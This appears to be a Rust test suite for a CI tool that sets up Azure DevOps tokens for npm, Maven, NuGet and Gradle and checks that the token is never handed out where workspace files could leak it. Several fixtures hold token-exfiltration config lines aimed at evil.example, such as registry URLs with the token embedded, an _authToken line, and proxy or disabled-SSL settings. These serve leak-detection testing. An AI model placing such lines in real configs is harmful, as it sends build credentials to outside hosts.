//! The rules that hold for every tool.

use std::collections::BTreeSet;
use std::path::Path;

use super::*;
use crate::azure_devops::feed::Feed;
use crate::kernel::organization::Organization;
use crate::reach::{Grant, NamedBy, PermittedOrganization, Standing};
use crate::tools::reading::{Among, Hidden, Origin, RelPath, Unparsable};
use crate::tools::testing::{Disk, file, host, names, taken_apart};
use crate::tools::{TOOLS, git};

fn permitted(name: &str, standing: Standing) -> PermittedOrganization {
    PermittedOrganization {
        organization: Organization::parse(name).unwrap(),
        standing,
        spellings: BTreeSet::from([name.to_owned()]),
        named_by: vec![NamedBy::Connection],
    }
}

struct Case<'a> {
    /// The tools that the user wants; none where the workspace decides.
    named: &'a [&'static str],
    permitted: Vec<PermittedOrganization>,
    feeds: &'a [FeedInput],
    grants: Vec<Grant>,
    headers: bool,
    environment: &'a [(&'a str, &'a str)],
    files: &'a [(&'a str, &'a str)],
}

impl Default for Case<'_> {
    fn default() -> Self {
        Self {
            named: &[],
            permitted: vec![permitted("contoso", Standing::Owned)],
            feeds: &[],
            grants: Vec::new(),
            headers: false,
            environment: &[],
            files: &[],
        }
    }
}

/// Has each tool read what it reads of files below the checkout.
fn sources(files: &[(&str, &str)], host: &Host) -> Vec<ToolSources> {
    let of_tool = |tool: &&'static dyn Tool| {
        let path = |path: &str| if path.starts_with('/') { path.to_owned() } else { format!("/agent/1/s/{path}") };
        let files = files.iter().map(|(at, text)| file(&path(at), text));
        let reads = |file: &crate::tools::reading::SourceFile| {
            let among = if file.source.origin == Origin::Beside { Among::Beside } else { Among::Project };
            let folder = file.source.path.parent().unwrap_or(Path::new("/"));
            file.source.origin == Origin::User || tool.reads(RelPath::new(folder, file.name()), among)
        };
        let files: Vec<_> = files.filter(reads).collect();
        ToolSources { tool: *tool, files: taken_apart(*tool, &files, host), unread: Vec::new(), unusable: None }
    };
    TOOLS.iter().map(of_tool).collect()
}

impl Case<'_> {
    fn outcome(&self) -> Plan {
        self.result().unwrap()
    }

    fn result(&self) -> Result<Plan, PlanError> {
        let host = host(self.environment);
        let named = (!self.named.is_empty()).then(|| self.named.iter().copied().collect());
        let choice = Choice { tools: TOOLS.to_vec(), named };
        let reach = Reach { permitted: self.permitted.clone(), grants: self.grants.clone(), ..Reach::default() };
        let wanted = Wanted { choice: &choice, reach: &reach, feeds: self.feeds, token_variable: "ADO_ENTRA_TOKEN" };
        let mut sources = sources(self.files, &host);
        if self.headers {
            sources
                .iter_mut()
                .filter(|found| found.tool.id().name == "git")
                .for_each(|found| found.tool = &git::WITH_HEADERS);
        }
        plan(&wanted, &sources, &host, &Disk::default(), &names())
    }
}

/// What `auto` makes of files and variables.
pub fn outcome_of(files: &[(&str, &str)], environment: &[(&str, &str)]) -> Plan {
    Case { environment, files, ..Case::default() }.outcome()
}

fn tools(outcome: &Plan) -> Vec<&'static str> {
    let mut tools: Vec<&str> = outcome.served.iter().map(|served| served.tool).collect();
    tools.dedup();
    tools
}

fn variables(outcome: &Plan) -> Vec<(String, String)> {
    outcome.variables().map(|variable| (variable.name.clone(), variable.value.shown())).collect()
}

pub fn warnings(outcome: &Plan) -> Vec<String> {
    outcome.warnings.sentences()
}

const NPMRC: &str = "registry=https://pkgs.dev.azure.com/contoso/_packaging/f/npm/registry/\n";

fn pom(id: &str, url: &str) -> String {
    format!("<project><repositories><repository><id>{id}</id><url>{url}</url></repository></repositories></project>")
}

#[test]
fn auto_chooses_what_the_workspace_names_and_git() {
    assert_eq!(tools(&Case::default().outcome()), ["git"]);
    assert_eq!(tools(&Case { files: &[("a/.npmrc", NPMRC)], ..Case::default() }.outcome()), ["npm", "git"]);
    let foreign = [(".npmrc", "registry=https://registry.example.com/\n")];
    let outcome = Case { files: &foreign, ..Case::default() }.outcome();
    assert_eq!((tools(&outcome), warnings(&outcome).len()), (vec!["git"], 0));
}

#[test]
fn a_feed_of_another_organization_gets_a_warning_and_no_token() {
    let files = [(".npmrc", "registry=https://pkgs.dev.azure.com/fabrikam/_packaging/f/npm/registry/\n")];
    for named in [&[][..], &["npm"]] {
        let outcome = Case { named, files: &files, ..Case::default() }.outcome();
        let warning = warnings(&outcome).into_iter().find(|warning| warning.contains("fabrikam/f")).unwrap();
        assert!(warning.contains(".npmrc") && warning.contains("'organizations'"), "{warning}");
        assert!(!tools(&outcome).contains(&"npm"));
    }
}

#[test]
fn a_name_that_also_stands_for_somewhere_else_gets_nothing() {
    let feed = "https://pkgs.dev.azure.com/contoso/_packaging/f/maven/v1";
    for other in ["https://evil.example/", "${unknown}", "https://pkgs.dev.azure.com/fabrikam/_packaging/f/maven/v1"] {
        let (ours, theirs, sound) = (pom("f", feed), pom("f", other), pom("sound", feed));
        let files = [("a/pom.xml", ours.as_str()), ("b/pom.xml", theirs.as_str()), ("c/pom.xml", sound.as_str())];
        let outcome = Case { files: &files, ..Case::default() }.outcome();
        let warning = warnings(&outcome).into_iter().find(|warning| warning.contains("'f'")).unwrap();
        assert!(warning.contains("a/pom.xml") && warning.contains("b/pom.xml"), "{warning}");
        assert_eq!(keys(&outcome), ["sound"]);
    }
}

fn keys(outcome: &Plan) -> Vec<&str> {
    let files = outcome.changes.iter().filter_map(|change| match change {
        Change::SharedFile(file) => Some(file),
        _ => None,
    });
    files.flat_map(|file| &file.entries).map(|entry| entry.key.as_str()).collect()
}

const OURS: &str = "<project><repositories><repository><id>ours</id><url>https://pkgs.dev.azure.com/contoso/_packaging/f/maven/v1</url>\
    </repository></repositories></project>";
const OUR_CONFIG: &str = "<configuration><packageSources><add key='ours' \
    value='https://pkgs.dev.azure.com/contoso/_packaging/f/nuget/v3/index.json'/></packageSources></configuration>";

#[test]
fn a_repository_that_would_send_the_token_elsewhere_stops_the_step() {
    let evil = "https://evil.example/";
    let nuget = |sections: &str| format!("<configuration>{sections}</configuration>");
    let source = |key: &str, url: &str| format!("<packageSources><add key='{key}' value='{url}'/></packageSources>");
    let secret = "<packageSourceCredentials><z><add key='ClearTextPassword' value='%ADO_ENTRA_TOKEN%'/></z></packageSourceCredentials>";
    let server = format!(
        "<settings><servers><server><id>z</id><configuration><httpHeaders><property><value>${{env.ADO_ENTRA_TOKEN}}</value></property>\
         </httpHeaders></configuration></server></servers><mirrors><mirror><id>z</id><url>{evil}</url></mirror></mirrors></settings>"
    );
    for (path, text, says) in [
        (".npmrc", "//evil.example/npm/:_authToken=${ADO_ENTRA_TOKEN}".to_owned(), ".npmrc line 2"),
        (".npmrc", "_auth=${ado_entra_token}".to_owned(), ".npmrc line 2"),
        (".npmrc", "registry=https://evil.example/${ADO_ENTRA_TOKEN}/".to_owned(), "evil.example"),
        ("pom.xml", pom("z", "https://evil.example/${env.ADO_ENTRA_TOKEN}/"), "evil.example"),
        ("vendor/pom.xml", pom("z", "https://${env.ADO_ENTRA_TOKEN}.evil.example/"), "vendor/pom.xml"),
        ("ci-settings.xml", server, "evil.example"),
        ("nuget.config", nuget(&source("z", "https://evil.example/%ADO_ENTRA_TOKEN%/")), "evil.example"),
        ("nuget.config", nuget(&format!("{}{secret}", source("Z", evil))), "nuget.config"),
        (
            "a.csproj",
            "<Project><RestoreSources>https://evil.example/$(ADO_ENTRA_TOKEN)/</RestoreSources></Project>".to_owned(),
            "a.csproj",
        ),
    ] {
        let token = "eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9";
        for environment in [&[][..], &[("ADO_ENTRA_TOKEN", token)]] {
            let npm = format!("registry=https://pkgs.dev.azure.com/contoso/_packaging/g/npm/registry/\n{text}");
            let text = if path == ".npmrc" { &npm } else { &text };
            let files = [(path, text.as_str()), ("c/pom.xml", OURS), ("c/nuget.config", OUR_CONFIG)];
            let error = Case { files: &files, environment, ..Case::default() }.result().unwrap_err();
            let words = format!("{error} {}", crate::diagnosis::Explain::remedy(&error));
            assert!(
                matches!(error, PlanError::Leak { .. })
                    && !words.contains(token)
                    && (words.contains(says) || !environment.is_empty()),
                "{words}"
            );
        }
    }
}

#[test]
fn a_repository_may_send_the_token_to_a_permitted_organization() {
    let maven = "https://pkgs.dev.azure.com/contoso/_packaging/f/maven/v1";
    let nuget = "https://pkgs.dev.azure.com/contoso/_packaging/f/nuget/v3/index.json";
    let npmrc =
        format!("{NPMRC}//pkgs.dev.azure.com/contoso/_packaging/f/npm/registry/:_authToken=${{ADO_ENTRA_TOKEN}}\n");
    let settings = format!(
        "<settings><servers><server><id>f</id><password>${{env.ADO_ENTRA_TOKEN}}</password></server></servers>\
         <mirrors><mirror><id>f</id><url>{maven}</url></mirror></mirrors></settings>"
    );
    let config = format!(
        "<configuration><packageSources><add key='f' value='{nuget}'/></packageSources><packageSourceCredentials><f>\
         <add key='ClearTextPassword' value='%ADO_ENTRA_TOKEN%'/></f></packageSourceCredentials></configuration>"
    );
    let files = [(".npmrc", npmrc.as_str()), ("ci-settings.xml", &settings), ("nuget.config", &config)];
    assert_eq!(tools(&Case { files: &files, ..Case::default() }.outcome()), ["npm", "maven", "nuget", "git"]);
}

#[test]
fn a_dependency_folder_takes_names_away_and_gives_nothing() {
    let maven = |organization: &str| format!("https://pkgs.dev.azure.com/{organization}/_packaging/f/maven/v1");
    let ours = pom("f", &maven("contoso"));
    for (theirs, expected) in [
        (pom("f", "https://evil.example/"), vec![]),
        (pom("g", &maven("contoso")), vec!["f"]),
        (pom("g", &maven("fabrikam")), vec!["f"]),
        ("<project>".to_owned(), vec!["f"]),
    ] {
        let files = [("pom.xml", ours.as_str()), ("vendor/x/pom.xml", theirs.as_str())];
        let outcome = Case { files: &files, ..Case::default() }.outcome();
        assert_eq!(keys(&outcome), expected, "{theirs}");
        let about_it = warnings(&outcome).iter().filter(|warning| warning.contains("vendor/x/pom.xml")).count();
        assert_eq!(about_it, usize::from(expected.is_empty()), "{:?}", warnings(&outcome));
    }
    let alone = [("vendor/x/pom.xml", ours.as_str())];
    let outcome = Case { files: &alone, ..Case::default() }.outcome();
    assert_eq!((tools(&outcome), warnings(&outcome).len()), (vec!["git"], 0));
}

#[test]
fn a_file_that_may_hide_names_costs_every_name_its_credential() {
    let feed = "https://pkgs.dev.azure.com/contoso/_packaging/f/maven/v1";
    let (plain, letters) = (pom("f", feed), pom("fä", feed));
    for (hiding, expected) in [
        ("<?xml version='1.0' encoding='utf-7'?><project/>", vec![]),
        ("<?xml version='1.0' encoding='iso-8859-1'?><project>ä</project>", vec!["f"]),
        // What Maven refuses too.
        ("<project>", vec!["f", "fä"]),
        (&"<project>".repeat(300), vec![]),
    ] {
        let files = [("pom.xml", plain.as_str()), ("a/pom.xml", letters.as_str()), ("b/pom.xml", hiding)];
        let outcome = Case { files: &files, ..Case::default() }.outcome();
        assert_eq!(keys(&outcome), expected, "{hiding}");
        assert!(warnings(&outcome).iter().any(|warning| warning.contains("b/pom.xml")), "{hiding}");
    }
    // A tool whose credentials go by URL loses nothing.
    let files = [(".npmrc", NPMRC), ("b/pom.xml", "<?xml version='1.0' encoding='utf-7'?><project/>")];
    assert!(tools(&Case { files: &files, ..Case::default() }.outcome()).contains(&"npm"));
}

#[test]
fn a_name_that_is_repeated_without_end_is_looked_at_once() {
    let feed = "https://pkgs.dev.azure.com/contoso/_packaging/f/maven/v1";
    let repositories: String = (0..20_000)
        .map(|n| format!("<repository><id>f</id><url>{feed}?{n}</url></repository>"))
        .chain(["<repository><id>f</id><url>https://evil.example/</url></repository>".to_owned()])
        .collect();
    let text = format!("<project><repositories>{repositories}</repositories></project>");
    let outcome = Case { files: &[("pom.xml", &text)], ..Case::default() }.outcome();
    assert_eq!(keys(&outcome), Vec::<&str>::new());
}

#[test]
fn feeds_of_the_input_serve_the_tools_that_they_speak_to() {
    let input = |url: &str| [FeedInput { name: None, feed: Feed::parse(url).unwrap() }];
    let npm = input("https://pkgs.dev.azure.com/contoso/_packaging/f/npm/registry/");
    assert_eq!(tools(&Case { feeds: &npm, ..Case::default() }.outcome()), ["npm", "git"]);
    let bare = input("https://pkgs.dev.azure.com/contoso/_packaging/f");
    assert_eq!(tools(&Case { feeds: &bare, ..Case::default() }.outcome()), ["git"]);
    let named = &["npm", "maven"];
    assert_eq!(tools(&Case { feeds: &bare, named, ..Case::default() }.outcome()), ["npm", "maven"]);
}

#[test]
fn a_chosen_tool_without_a_feed_is_said() {
    let outcome = Case { named: &["npm"], ..Case::default() }.outcome();
    assert!(warnings(&outcome).iter().any(|warning| warning.starts_with("npm: no file")), "{:?}", warnings(&outcome));
}

#[test]
fn who_owns_an_organization_keeps_it_and_among_equals_the_later_serves() {
    let serves = |now: Standing, earlier: Standing| {
        let reference = Some("ADO_ENTRA_AUTH_EARLIER_CONTOSO".to_owned());
        let grant = Grant { tool: "npm".to_owned(), organization: "contoso".to_owned(), standing: earlier, reference };
        let case = Case {
            permitted: vec![permitted("contoso", now)],
            grants: vec![grant],
            files: &[(".npmrc", NPMRC)],
            ..Case::default()
        };
        let outcome = case.outcome();
        let sets = variables(&outcome).iter().any(|(name, _)| name == "ADO_ENTRA_AUTH_X_CONTOSO");
        assert_eq!(sets, outcome.grants.iter().any(|grant| grant.tool == "npm"));
        let file = outcome.changes.iter().find_map(|change| match change {
            Change::PrivateFile(file) if file.name == "npmrc" => Some(file.added_text()),
            _ => None,
        });
        assert_eq!(file.unwrap().contains("${ADO_ENTRA_AUTH_EARLIER_CONTOSO}"), !sets);
        // What another tool has is another matter.
        let clients: Vec<Dialect> = outcome.deposits.iter().map(|deposit| deposit.client).collect();
        assert_eq!(clients, [Dialect::Git, Dialect::Script]);
        sets
    };
    assert!(serves(Standing::Owned, Standing::Owned));
    assert!(serves(Standing::Owned, Standing::Permitted));
    assert!(serves(Standing::Permitted, Standing::Permitted));
    assert!(!serves(Standing::Permitted, Standing::Owned));
}

#[test]
fn the_token_stands_in_a_secret_variable_and_in_those_that_nobody_can_guess() {
    let outcome = Case { files: &[(".npmrc", NPMRC)], ..Case::default() }.outcome();
    let holds: Vec<(&str, bool)> = outcome
        .variables()
        .filter(|variable| variable.value.holds_token())
        .map(|variable| (variable.name.as_str(), variable.visibility == crate::plan::Visibility::Secret))
        .collect();
    assert_eq!(holds, [("ADO_ENTRA_TOKEN", true), ("ADO_ENTRA_AUTH_X_CONTOSO", false)]);
    let git_only = Case { named: &["git"], ..Case::default() }.outcome();
    let holds: Vec<&str> =
        git_only.variables().filter(|v| v.value.holds_token()).map(|variable| variable.name.as_str()).collect();
    assert_eq!(holds, ["ADO_ENTRA_TOKEN"]);
}

#[test]
fn a_script_may_ask_for_every_organization_that_the_step_serves_and_finds_the_program() {
    let permitted = || ["fabrikam", "contoso", "wingtip"].map(|name| permitted(name, Standing::Permitted)).to_vec();
    let asked = |outcome: &Plan| -> Vec<String> {
        let scripts = outcome.deposits.iter().filter(|deposit| deposit.client == Dialect::Script);
        scripts.map(|deposit| deposit.organization.name().to_owned()).collect()
    };
    let outcome =
        Case { permitted: permitted(), named: &["npm"], files: &[(".npmrc", NPMRC)], ..Case::default() }.outcome();
    // The first is the one whose token has the step's own name.
    assert_eq!(asked(&outcome), ["fabrikam", "contoso"]);
    let outcome = Case { permitted: permitted(), ..Case::default() }.outcome();
    assert_eq!(asked(&outcome), ["fabrikam", "contoso", "wingtip"]);
    let on_path: Vec<&Change> =
        outcome.changes.iter().filter(|change| matches!(change, Change::Program(_) | Change::Path)).collect();
    assert!(matches!(on_path[..], [Change::Program("ado-entra-auth"), Change::Path]), "{on_path:?}");
}

#[test]
fn headers_are_given_where_they_are_wanted() {
    let outcome = Case { headers: true, ..Case::default() }.outcome();
    assert!(outcome.variables().any(|variable| variable.value.shown() == "Authorization: bearer ***"));
    // git asks nobody.
    assert!(outcome.deposits.iter().all(|deposit| deposit.client == Dialect::Script));
}

#[test]
fn a_variable_of_a_client_that_holds_the_token_is_guarded_in_every_file() {
    for text in ["//evil.example/:_authToken=${GIT_CONFIG_VALUE_1}", "[x]\nuser-agent=\"${GIT_CONFIG_VALUE_1}\""] {
        let text = format!("{NPMRC}{text}\n");
        let files = [(".npmrc", text.as_str())];
        let error = Case { headers: true, files: &files, ..Case::default() }.result().unwrap_err();
        assert!(matches!(error, PlanError::Leak { .. }), "{error}");
        // With the helper there is nothing in that variable to send.
        assert!(Case { files: &files, ..Case::default() }.result().is_ok());
    }
}

#[test]
fn a_file_of_the_users_that_cannot_be_read_stops_only_the_tool_that_would_hide_it() {
    let host = host(&[]);
    let reach = Reach { permitted: vec![permitted("contoso", Standing::Owned)], ..Reach::default() };
    let planned = |named: &'static str| {
        let mut sources = sources(&[], &host);
        sources[0].unusable = Some(Unparsable {
            file: "/home/agent/.npmrc".to_owned(),
            reason: "it is a folder".to_owned(),
            hides: Hidden::Nothing,
            origin: Origin::User,
        });
        let choice = Choice { tools: TOOLS.to_vec(), named: Some([named].into()) };
        let wanted = Wanted { choice: &choice, reach: &reach, feeds: &[], token_variable: "T" };
        plan(&wanted, &sources, &host, &Disk::default(), &names())
    };
    let error = planned("npm").unwrap_err();
    assert!(error.to_string().contains("/home/agent/.npmrc"), "{error}");
    assert!(planned("git").is_ok());
}

/// An input's feed without a protocol could be any tool's. One sentence says so, not one a tool.
#[test]
fn a_feed_that_serves_no_tool_is_said_once() {
    let feed = Feed::parse("https://pkgs.dev.azure.com/contoso/_packaging/feed1").unwrap();
    for named in [&[][..], &["git"]] {
        let outcome =
            Case { named, feeds: &[FeedInput { name: None, feed: feed.clone() }], ..Case::default() }.outcome();
        let said = warnings(&outcome);
        assert_eq!((said.len(), outcome.notes.len()), (1, 0), "{said:?} {:?}", outcome.notes);
        assert!(said[0].contains("contoso/feed1") && said[0].contains("name the tool"), "{said:?}");
        let files = [(".npmrc", NPMRC)];
        let outcome = Case {
            named: &["git"],
            feeds: &[FeedInput { name: None, feed: feed.clone() }],
            files: &files,
            ..Case::default()
        };
        assert_eq!(
            outcome.outcome().notes,
            ["npm: not set up for contoso/f (.npmrc): the input 'tools' does not name npm"]
        );
    }
}

/// A file of another name is read where an argument names it, and then no other is: each of its sources needs a line of its own.
#[test]
fn each_source_of_nugets_file_that_only_an_argument_names_is_told() {
    for (count, lines) in [(1, 1), (3, 3), (7, 6)] {
        let names: Vec<String> = (0..count).map(|number| format!("feed-{number}")).collect();
        let url = |name: &String| format!("https://pkgs.dev.azure.com/contoso/_packaging/{name}/nuget/v3/index.json");
        let add = |name: &String| format!("<add key='{name}' value='{}'/>", url(name));
        let sources: String = names.iter().map(add).collect();
        let text = format!("<configuration><packageSources>{sources}</packageSources></configuration>");
        let notes = Case { files: &[("ci.config", &text)], ..Case::default() }.outcome().notes;
        assert_eq!(notes.len(), lines, "{notes:?}");
        assert!(notes[0].contains("(ci.config)"), "{notes:?}");
        for (name, note) in names.iter().zip(&notes).take(5) {
            let line = format!("NuGetPackageSourceCredentials_{name}: Username=any;Password=$(ADO_ENTRA_TOKEN);");
            assert!(note.contains(&line), "{note}");
        }
        assert_eq!(notes.last().unwrap().contains("2 more sources"), count == 7);
    }
}

#[test]
fn a_setting_that_leads_npm_elsewhere_is_named_with_its_line_and_what_to_do() {
    for (setting, words) in [
        ("proxy=http://evil.example:8080", ["sends the traffic through a proxy", "HTTPS_PROXY"]),
        ("strict-ssl=false", ["switches off the check of certificates", "NODE_EXTRA_CA_CERTS"]),
    ] {
        let text = format!("{NPMRC}{setting}\n");
        let said = warnings(&Case { files: &[(".npmrc", &text)], ..Case::default() }.outcome());
        let [said] = said.as_slice() else { panic!("{said:?}") };
        assert!(said.starts_with("npm: .npmrc line 2 ") && words.iter().all(|word| said.contains(word)), "{said}");
    }
}

#[test]
fn tools_that_are_not_set_up_are_told_in_a_line_and_not_warned_of() {
    let files = [(".npmrc", NPMRC)];
    let outcome = Case { named: &["git"], files: &files, ..Case::default() }.outcome();
    assert_eq!(warnings(&outcome), Vec::<String>::new());
    assert_eq!(outcome.notes, ["npm: not set up for contoso/f (.npmrc): the input 'tools' does not name npm"]);
    // What only the user's own files name is theirs.
    let files = [("/home/build/.npmrc", NPMRC)];
    let outcome = Case { files: &files, ..Case::default() }.outcome();
    assert_eq!(tools(&outcome), ["git"]);
    assert!(outcome.notes.iter().any(|note| note.contains("only files of your own name it")), "{:?}", outcome.notes);
}

#[test]
fn an_exposed_address_takes_npms_credentials_away_and_no_others() {
    for exposed in [
        "http://pkgs.dev.azure.com/contoso/_packaging/f/npm/registry/",
        "https://pkgs.dev.azure.com:444/contoso/_packaging/f/npm/registry/",
        "http://contoso.pkgs.visualstudio.com/_packaging/f/npm/registry/",
    ] {
        let rc = format!("{NPMRC}@s:registry={exposed}\n");
        let lock = format!("{{\"resolved\": \"{exposed}demo/-/demo-1.0.0.tgz\"}}");
        for files in [
            &[(".npmrc", rc.as_str())][..],
            &[(".npmrc", NPMRC), ("package-lock.json", &lock)],
            &[(".npmrc", NPMRC), ("vendor/x/yarn.lock", &lock)],
            &[(".npmrc", NPMRC), ("package.json", &lock)],
        ] {
            let outcome = Case { files, ..Case::default() }.outcome();
            assert_eq!(tools(&outcome), ["git"], "{files:?}");
            let said = warnings(&outcome);
            assert!(said.len() == 1 && said[0].contains(files.last().unwrap().0), "{said:?}");
        }
    }
    let other = format!("{NPMRC}@s:registry=http://pkgs.dev.azure.com/fabrikam/_packaging/f/npm/registry/\n");
    assert_eq!(tools(&Case { files: &[(".npmrc", &other)], ..Case::default() }.outcome()), ["npm", "git"]);
}

#[test]
fn settings_that_lead_the_traffic_elsewhere_take_npms_credentials_away() {
    for (path, setting) in [
        (".npmrc", "https-proxy=http://evil.example:8099"),
        (".npmrc", "strict-ssl=false"),
        ("web/.npmrc", "cafile=./evil.pem"),
        ("vendor/x/.npmrc", "ca=\"-----BEGIN\""),
        (".yarnrc", "https-proxy \"http://evil.example/\""),
        ("pnpm-workspace.yaml", "strictSsl: false"),
    ] {
        let files = [("a/.npmrc", NPMRC), (path, setting)];
        let outcome = Case { files: &files, ..Case::default() }.outcome();
        assert_eq!(tools(&outcome), ["git"], "{setting}");
        let said = warnings(&outcome);
        assert!(said.len() == 1 && said[0].contains(&format!("{path} line 1")), "{said:?}");
    }
    let harmless = [("a/.npmrc", NPMRC), (".npmrc", "strict-ssl=true\nproxy=null\nfund=false\n")];
    assert_eq!(tools(&Case { files: &harmless, ..Case::default() }.outcome()), ["npm", "git"]);
}

#[test]
fn a_feed_of_the_input_that_serves_no_tool_is_said() {
    let input = |url: &str| [FeedInput { name: None, feed: Feed::parse(url).unwrap() }];
    let idle =
        |outcome: &Plan| warnings(outcome).iter().any(|warning| warning.contains("contoso/f of the input 'feeds'"));
    assert!(idle(
        &Case { feeds: &input("https://pkgs.dev.azure.com/contoso/_packaging/f"), ..Case::default() }.outcome()
    ));
    for protocol in ["npm/registry/", "pypi/simple/"] {
        let feed = input(&format!("https://pkgs.dev.azure.com/contoso/_packaging/f/{protocol}"));
        assert!(!idle(&Case { feeds: &feed, ..Case::default() }.outcome()), "{protocol}");
    }
}

#[test]
fn a_feed_over_http_gets_a_warning_and_no_token_whatever_the_tool() {
    const FEED: &str = "//pkgs.dev.azure.com/contoso/_packaging/f";
    let row = |path, before: &str, behind: &str, ends: &str| {
        [("https:", true), ("http:", false)]
            .map(|(scheme, served)| (path, format!("{before}{scheme}{FEED}{behind}{ends}"), served))
    };
    let rows = [
        row(".npmrc", "registry=", "/npm/registry/", "\n"),
        row(
            "pom.xml",
            "<project><repositories><repository><id>f</id><url>",
            "/maven/v1",
            "</url></repository></repositories></project>",
        ),
        row(
            "nuget.config",
            "<configuration><packageSources><add key='f' value='",
            "/nuget/v3/index.json",
            "'/></packageSources></configuration>",
        ),
        row(".cargo/config.toml", "[registries.f]\nindex = 'sparse+", "/Cargo/index/", "'\n"),
    ];
    for (path, text, served) in rows.into_iter().flatten() {
        let outcome = Case { files: &[(path, &text)], ..Case::default() }.outcome();
        let said = warnings(&outcome).iter().any(|warning| warning.contains("contoso/f over http"));
        assert_eq!(
            (said, tools(&outcome).len()),
            (!served, if served { 2 } else { 1 }),
            "{path}: {:?}",
            warnings(&outcome)
        );
    }
}

/// A client that asks for any address needs no feed to be named.
#[test]
fn a_client_that_asks_is_not_set_up_where_the_repository_may_lead_it_elsewhere() {
    let host = host(&[]);
    let feed = "maven { url 'https://pkgs.dev.azure.com/contoso/_packaging/f/maven/v1' }";
    let together = "url \"https://pkgs.dev.azure.com/${org}/_packaging/f/maven/v1\"";
    let peril = "systemProp.https.proxyHost=evil.example";
    let [root, beside, users] =
        ["gradle.properties", "vendor/gradle.properties", "/home/build/.gradle/gradle.properties"];
    let hidden =
        |origin| Unparsable { file: root.to_owned(), reason: "it is large".to_owned(), hides: Hidden::Names, origin };
    let led = "gradle.properties line 1 sends Gradle's traffic through a proxy (systemProp.https.proxyHost), so gradle gets no token";
    for (named, build, properties, unread, is_set_up, said) in [
        (None, feed, root, None, false, led),
        (None, together, root, None, false, led),
        (Some("gradle"), "", root, None, false, led),
        (Some("gradle"), "", beside, None, false, led),
        (None, feed, users, None, true, ""),
        (Some("gradle"), "", users, None, true, ""),
        (None, feed, users, Some(Origin::Workspace), false, "no feed gets a token"),
        (Some("gradle"), "", users, Some(Origin::Beside), false, "no feed gets a token"),
        (None, "", root, None, false, ""),
    ] {
        let mut sources = sources(&[("build.gradle", build), (properties, peril)], &host);
        let gradle = sources.iter_mut().find(|found| found.tool.id().name == "gradle").unwrap();
        gradle.unread.extend(unread.map(hidden));
        let choice = Choice { tools: TOOLS.to_vec(), named: named.map(|name| BTreeSet::from([name])) };
        let reach = Reach { permitted: vec![permitted("contoso", Standing::Owned)], ..Reach::default() };
        let wanted = Wanted { choice: &choice, reach: &reach, feeds: &[], token_variable: "ADO_ENTRA_TOKEN" };
        let plan = plan(&wanted, &sources, &host, &Disk::default(), &names()).unwrap();
        let row = format!("{named:?} {build} {properties} {unread:?}: {:?}", warnings(&plan));
        assert_eq!(plan.deposits.iter().any(|one| one.client == Dialect::Gradle), is_set_up, "{row}");
        assert_eq!(plan.served.iter().any(|served| served.tool == "gradle"), is_set_up, "{row}");
        assert_eq!(
            warnings(&plan).iter().filter(|warning| warning.starts_with("gradle: ")).count(),
            usize::from(!said.is_empty()),
            "{row}"
        );
        assert!(said.is_empty() || warnings(&plan).iter().any(|warning| warning.contains(said)), "{row}");
    }
}
